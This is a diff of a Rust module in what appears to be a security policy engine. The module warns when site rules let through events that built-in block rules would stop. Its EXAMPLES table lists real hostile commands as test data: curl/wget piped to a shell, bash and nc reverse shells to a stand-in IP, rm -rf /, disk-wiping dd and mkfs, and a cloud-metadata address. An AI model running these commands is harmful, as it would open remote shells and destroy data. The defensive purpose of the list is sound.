@@ -1,89 +1,186 @@
-//! Site rules that let attacks pass: an `allow` rule that matches events which a built-in rule
-//! would block.
+//! Site rules that weaken a built-in block: an `allow` that lets attacks pass, and an `escalate`
+//! that matches attacks, where the block takes precedence.
 //!
 //! Every warning has a witness: a subject that was judged with and without the site's rules.
 
 use super::sample::sample;
-use super::site_rules;
 use crate::decision::Verdict;
 use crate::engine::Engine;
+use crate::engine::order::Sides;
 use crate::event::EventKind;
 use crate::policy::{Origin, Rule};
 use sentry_text::diagnostic::{Code, Diagnostic};
 
-/// Warns about each `allow` rule for which a witness is found.
-pub(super) fn allowed_attacks(engine: &Engine) -> Vec<Diagnostic> {
-    let rules = &engine.policy().rules;
-    let attacks: Vec<(&Rule, String)> = rules
-        .iter()
-        .filter(|rule| is_builtin_block(rule))
-        .filter_map(|rule| Some((rule, sample(&rule.pattern.parsed()?)?)))
-        .collect();
-    site_rules(rules)
-        .filter(|(_, rule)| rule.verdict == Verdict::Allow)
-        .filter_map(|(at, rule)| warning(engine, at, rule, &attacks))
-        .collect()
+/// Plain attacks, by the built-in rule that blocks them.
+const EXAMPLES: [(&str, &str); 12] = [
+    ("privesc-setuid", "setuid-root 0"),
+    ("process-injection", "ptrace 0"),
+    ("pipe-to-shell", "curl http://192.0.2.1/x.sh | bash"),
+    ("pipe-to-shell", "wget -qO- http://192.0.2.1/x.sh | sh"),
+    ("reverse-shell", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
+    ("reverse-shell", "nc -e /bin/sh 192.0.2.1 4444"),
+    ("destructive-rm", "rm -rf /"),
+    ("destructive-rm", "rm -rf ~"),
+    ("disk-overwrite", "dd if=/dev/zero of=/dev/sda"),
+    ("disk-overwrite", "mkfs.ext4 /dev/sda"),
+    ("cloud-metadata", "169.254.169.254:80"),
+    ("oob-exfil-dns", "x.oast.fun"),
+];
+
+/// A policy, and subjects for each built-in rule that blocks.
+pub(super) struct Attacks<'e> {
+    engine: &'e Engine,
+    attacks: Vec<(&'e Rule, Vec<String>)>,
 }
 
-fn is_builtin_block(rule: &Rule) -> bool {
-    rule.origin == Origin::Builtin && rule.verdict == Verdict::Block
+/// A site rule's match that a built-in rule would block.
+struct Weakened<'e> {
+    builtin: &'e Rule,
+    witness: String,
 }
 
-fn warning(
-    engine: &Engine,
-    at: usize,
-    rule: &Rule,
-    attacks: &[(&Rule, String)],
-) -> Option<Diagnostic> {
-    let harmless = sample(&rule.pattern.parsed()?)?;
-    let shadowed: Vec<(&Rule, String)> = attacks
-        .iter()
-        .filter_map(|(builtin, attack)| {
-            let kind = *builtin.on.iter().find(|kind| rule.on.contains(kind))?;
-            let subjects = [
-                attack.clone(),
-                harmless.clone(),
+impl<'e> Attacks<'e> {
+    pub(super) fn of(engine: &'e Engine) -> Self {
+        let attacks = engine
+            .policy()
+            .rules
+            .iter()
+            .filter(|rule| rule.origin == Origin::Builtin && rule.verdict == Verdict::Block)
+            .map(|rule| (rule, attacks_on(rule)))
+            .collect();
+        Self { engine, attacks }
+    }
+
+    /// The warning about rule `at` if it is an `allow` that lets events pass which a built-in rule
+    /// would block.
+    pub(super) fn allowed_by(&self, at: usize, rule: &Rule) -> Option<Diagnostic> {
+        if rule.verdict != Verdict::Allow {
+            return None;
+        }
+        let weakened = self.weakened(at, rule, |harmless, attack| {
+            vec![
+                attack.to_owned(),
+                harmless.to_owned(),
                 format!("{harmless} {attack}"),
                 format!("{attack} {harmless}"),
                 format!("{harmless}; {attack}"),
-            ];
-            let witness = subjects
-                .into_iter()
-                .find(|subject| passes(engine, kind, subject, at))?;
-            Some((*builtin, witness))
-        })
-        .collect();
-    let (_, witness) = shadowed.first()?;
-    let names: Vec<_> = shadowed
-        .iter()
-        .map(|(builtin, _)| format!("`{}`", builtin.name))
-        .collect();
-    Some(
-        Diagnostic::new(
-            Code::AllowShadowsBuiltin,
-            rule.span,
-            format!(
-                "`allow` rule `{}` lets events pass that {} would block",
-                rule.name,
-                names.join(", ")
-            ),
+            ]
+        });
+        let Weakened { witness, .. } = weakened.first()?;
+        let (name, names) = (&rule.name, quoted(&weakened, "`").join(", "));
+        Some(
+            Diagnostic::new(
+                Code::AllowShadowsBuiltin,
+                rule.span,
+                format!("`allow` rule `{name}` lets events pass that {names} would block"),
+            )
+            .help(format!(
+                "for example `{}`; anchor the pattern with `^` and `$`",
+                witness.escape_debug()
+            )),
         )
-        .help(format!(
-            "for example `{}`; anchor the pattern with `^` and `$`",
-            witness.escape_debug()
-        )),
-    )
+    }
+
+    /// The warning about rule `at` if it is an `escalate` that was probably meant to weaken a
+    /// built-in rule: it matches the attack alone. A rule that matches something else in the same
+    /// subject was not.
+    pub(super) fn escalated_by(&self, at: usize, rule: &Rule) -> Option<Diagnostic> {
+        if rule.verdict != Verdict::Escalate {
+            return None;
+        }
+        let weakened = self.weakened(at, rule, |harmless, attack| {
+            vec![attack.to_owned(), harmless.to_owned()]
+        });
+        let Weakened { witness, .. } = weakened.first()?;
+        let (name, names) = (&rule.name, quoted(&weakened, "`").join(", "));
+        Some(
+            Diagnostic::new(
+                Code::EscalateBelowBuiltin,
+                rule.span,
+                format!("`escalate` rule `{name}` matches events that {names} blocks all the same"),
+            )
+            .help(format!(
+                "for example `{}`; narrow the pattern, or add `overrides = [{}]` to escalate \
+                 such events on purpose",
+                witness.escape_debug(),
+                quoted(&weakened, "\"").join(", ")
+            )),
+        )
+    }
+
+    /// The built-in rules that would block a subject which rule `at` matches first, each with such
+    /// a subject. `subjects` combines a sample of the rule with an attack.
+    fn weakened(
+        &self,
+        at: usize,
+        rule: &Rule,
+        subjects: impl Fn(&str, &str) -> Vec<String>,
+    ) -> Vec<Weakened<'e>> {
+        let Some(harmless) = rule.pattern.parsed().and_then(|hir| sample(&hir)) else {
+            return Vec::new();
+        };
+        let mut weakened = Vec::new();
+        for (builtin, attacks) in &self.attacks {
+            let Some(&kind) = builtin.on.iter().find(|kind| rule.on.contains(kind)) else {
+                continue;
+            };
+            let witness = attacks
+                .iter()
+                .flat_map(|attack| subjects(&harmless, attack))
+                .find(|subject| self.is_witness(kind, subject, at, builtin));
+            weakened.extend(witness.map(|witness| Weakened { builtin, witness }));
+        }
+        weakened
+    }
+
+    /// Whether rule `at` is the first site rule that matches a subject which `builtin` blocks.
+    fn is_witness(&self, kind: EventKind, subject: &str, at: usize, builtin: &Rule) -> bool {
+        let rules = &self.engine.policy().rules;
+        let matching = self.engine.matching(kind, subject);
+        let sides = Sides::of(rules, &matching);
+        let blocks = |&other: &usize| {
+            rules
+                .get(other)
+                .is_some_and(|rule| std::ptr::eq(rule, builtin))
+        };
+        sides.site == Some(at) && !sides.is_overridden(builtin) && matching.iter().any(blocks)
+    }
 }
 
-/// Whether rule `at` decides a subject that would be blocked without the site's rules.
-fn passes(engine: &Engine, kind: EventKind, subject: &str, at: usize) -> bool {
-    let rules = &engine.policy().rules;
-    let mut matching = engine.matching(kind, subject).into_iter();
-    if matching.next() != Some(at) {
-        return false;
+/// Subjects that a built-in rule blocks: its examples, and a sample of its pattern.
+fn attacks_on(rule: &Rule) -> Vec<String> {
+    let examples = EXAMPLES.iter().filter(|(name, _)| *name == rule.name);
+    let examples = examples.map(|(_, attack)| (*attack).to_owned());
+    let sample = rule.pattern.parsed().and_then(|hir| sample(&hir));
+    examples.chain(sample).collect()
+}
+
+/// The names of the built-in rules in quotes.
+fn quoted(weakened: &[Weakened<'_>], quote: &str) -> Vec<String> {
+    weakened
+        .iter()
+        .map(|found| format!("{quote}{}{quote}", found.builtin.name))
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::policy::check;
+
+    #[test]
+    fn the_examples_are_blocked_by_their_rule_and_every_block_has_one() {
+        let engine = Engine::new(check("", &|_| None).policy.unwrap()).unwrap();
+        let rules = &engine.policy().rules;
+        for (name, attack) in EXAMPLES {
+            let at = rules.iter().position(|rule| rule.name == name).unwrap();
+            let kind = *rules[at].on.first().unwrap();
+            let matching = engine.matching(kind, attack);
+            assert!(matching.contains(&at), "{name}: {attack}");
+        }
+        for rule in rules.iter().filter(|rule| rule.verdict == Verdict::Block) {
+            let mut names = EXAMPLES.iter().map(|(name, _)| *name);
+            assert!(names.any(|name| name == rule.name), "{}", rule.name);
+        }
     }
-    matching
-        .filter_map(|other| rules.get(other))
-        .find(|rule| rule.origin == Origin::Builtin)
-        .is_some_and(is_builtin_block)
 }
